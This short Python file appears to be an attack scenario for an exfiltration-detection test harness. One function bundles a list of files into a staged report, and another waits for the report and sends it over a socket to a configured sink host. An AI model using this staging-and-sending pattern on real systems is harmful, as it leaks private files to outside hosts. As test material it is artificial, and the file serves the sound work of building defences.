# SPDX-License-Identifier: GPL-3.0-or-later
"""Staged in a file that a job of the system sends later."""
import os
import random
import socket
import time

KIND = "attack"


def stranger(world):
    staged = os.path.join(world["scratch"], "report")
    open(os.path.join(world["scratch"], "ready"), "w").close()
    while not os.path.exists(staged):
        time.sleep(0.1)
    time.sleep(1)
    with open(staged, "rb") as file, socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        sock.sendall(file.read())


def product(world):
    with open(os.path.join(world["scratch"], "part"), "wb") as out:
        for path in world["files"]:
            with open(path, "rb") as file:
                out.write(file.read())
    os.rename(os.path.join(world["scratch"], "part"), os.path.join(world["scratch"], "report"))
